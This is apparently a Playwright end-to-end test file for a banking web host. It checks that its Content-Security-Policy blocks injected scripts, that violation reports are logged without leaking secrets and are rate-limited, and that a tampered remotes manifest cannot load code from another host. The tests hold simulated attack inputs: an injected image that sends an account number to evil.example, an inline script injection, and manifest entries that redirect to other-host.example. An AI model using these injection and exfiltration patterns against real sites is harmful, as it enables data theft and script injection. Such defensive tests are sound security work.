import { existsSync, readFileSync } from 'node:fs';
import type { Page } from 'playwright-core';
import { CSP_LOG_FILE, CSP_REPORT_PATH, writeCspReportsSetting } from '../../hosting/lib/cspReports.mjs';
import { VITALS_RATE_LIMIT } from '../../hosting/lib/policy.mjs';
import { vitalsLogOf } from '../../hosting/lib/vitalsLog.mjs';
import { describe, expect, it } from 'vitest';
import { navigateInApp, openPage } from '../support/browser';
import { HOST, composedSiteForThisFile } from '../support/site';

// Behind a trusted proxy on the loopback: a test's requests speak for clients of their own (X-Forwarded-For).
const env = composedSiteForThisFile({ trustedProxies: ['127.0.0.1'] });
const ERROR_HEADING = 'Unexpected Application Error!';

/** Serves a manifest instead of the deployed one, as an operator editing it (or an attacker) would. */
async function useManifest(page: Page, remotes: Record<string, string>) {
  const body = JSON.stringify({ ...env.site.manifest(), remotes: { ...env.site.manifest().remotes, ...remotes } });
  await page.route('**/remotes.json', (route) => route.fulfill({ status: 200, contentType: 'application/json', body }));
}

// Every route's policy, sent and unbroken, is checked where every route is opened (every-route.e2e.ts).
describe('the Content-Security-Policy', () => {
  it('refuses an inline script, as an injected one would be', async () => {
    const { page, errors } = await openPage(env.browser);
    await page.goto(env.site.url + '/');
    await page.getByRole('heading', { level: 1, name: 'Banking, Everyday and Everywhere' }).waitFor();
    const ran = await page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'window.injected = true;';
      document.head.append(script);
      return (window as unknown as { injected?: boolean }).injected === true;
    });
    expect(ran).toBe(false);
    await expect
      .poll(() => errors.some((error) => /^CSP violation: script-src-elem blocked inline/.test(error)))
      .toBe(true);
    await page.context().close();
  });
});

describe(`reports of what the policy blocked, on the ${HOST} host`, () => {
  const post = (body: string, headers: Record<string, string> = {}, client = '203.0.113.40') =>
    fetch(env.site.url + CSP_REPORT_PATH, {
      method: 'POST',
      body,
      headers: { 'Content-Type': 'application/csp-report', 'X-Forwarded-For': client, ...headers },
    });
  const policyOf = async (path: string) =>
    (await fetch(env.site.url + path)).headers.get('content-security-policy') ?? '';
  const logLines = () =>
    existsSync(vitalsLogOf(env.site.root, CSP_LOG_FILE))
      ? readFileSync(vitalsLogOf(env.site.root, CSP_LOG_FILE), 'utf8').split('\n').filter(Boolean)
      : [];

  it('are off by default: no page names the endpoint, which answers 404', async () => {
    expect(await policyOf('/savings_account')).not.toContain('report-uri');
    expect((await post('{}')).status).toBe(404);
  });

  it('once on, are sent by the browser and kept as one line: the page’s path, the directive and the blocked origin, no query, address or cookie', async () => {
    writeCspReportsSetting(env.site.root, true);
    try {
      expect(await policyOf('/savings_account')).toMatch(/; report-uri \/csp-report$/);
      const { page } = await openPage(env.browser);
      await page.goto(`${env.site.url}/savings_account?from=mail`);
      // As an injected image carrying a secret in its address would be.
      await page.evaluate(() => {
        const image = document.createElement('img');
        image.src = 'http://evil.example/pixel.png?account=37100012345';
        document.body.append(image);
      });
      await expect
        .poll(
          () =>
            logLines()
              .map((line) => JSON.parse(line) as Record<string, string>)
              .find((record) => record.directive?.startsWith('img-src')),
          { timeout: 15_000 },
        )
        .toMatchObject({
          page: '/savings_account',
          blocked: 'http://evil.example',
        });
      await page.context().close();
      expect(logLines().join('\n')).not.toMatch(/37100012345|from=mail|127\.0\.0\.1|203\.0\.113/);
      for (const line of logLines())
        expect(Object.keys(JSON.parse(line) as object)).toEqual(['time', 'page', 'directive', 'blocked']);

      // What is no report: another method, another type, a body over 8 KB; past the beacons' rate, 429.
      expect((await fetch(env.site.url + CSP_REPORT_PATH)).status).toBe(405);
      expect((await post('{}', { 'Content-Type': 'text/plain' })).status).toBe(415);
      expect((await post('x'.repeat(9000), {}, '203.0.113.41')).status).toBe(413);
      const statuses = [];
      for (let i = 0; i < VITALS_RATE_LIMIT.burst + 5; i++)
        statuses.push((await post('{}', {}, '203.0.113.42')).status);
      expect(statuses.slice(0, VITALS_RATE_LIMIT.burst)).toEqual(Array(VITALS_RATE_LIMIT.burst).fill(204));
      expect(statuses.at(-1)).toBe(429);
    } finally {
      writeCspReportsSetting(env.site.root, false);
    }
    expect(await policyOf('/savings_account')).not.toContain('report-uri');
  });
});

describe('the manifest cannot point anywhere', () => {
  it.each([
    ['//other-host.example/x.js', 'a path starting with //'],
    ['/\\other-host.example/x.js', 'a path starting with /\\'],
    ['http://other-host.example/x.js', 'plain http to another host'],
  ])('refuses %s (%s) on that section only, and requests nothing from the other host', async (entry) => {
    const { page, requests } = await openPage(env.browser);
    await useManifest(page, { 'personal-banking': entry });
    await page.goto(env.site.url + '/legal');
    await navigateInApp(page, '/personal-banking');
    await page.getByRole('heading', { level: 1, name: ERROR_HEADING }).waitFor();
    const alert = (await page.getByRole('alert').textContent()) ?? '';
    expect(alert).toContain('ManifestError');
    expect(alert).toContain('"personal-banking"');
    // The other sections still load.
    await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Business Banking' }).click();
    await page.getByRole('heading', { level: 1, name: 'Business banking' }).waitFor();
    expect(requests.filter((url) => url.includes('other-host'))).toEqual([]);
    await page.context().close();
  });

  it('and a manifest naming another origin loads nothing from it: the CSP blocks it', async () => {
    const { page, errors } = await openPage(env.browser);
    // https passes the manifest's own check; only the host's CSP stands in the way.
    await useManifest(page, { 'group-societies': 'https://other-host.example/assets/remoteEntry.js' });
    await page.goto(env.site.url + '/legal');
    await navigateInApp(page, '/group-societies');
    await page.getByRole('heading', { level: 1, name: ERROR_HEADING }).waitFor();
    expect(
      errors.some((error) => /^CSP violation: script-src-elem blocked https:\/\/other-host\.example/.test(error)),
    ).toBe(true);
    await page.context().close();
  });
});
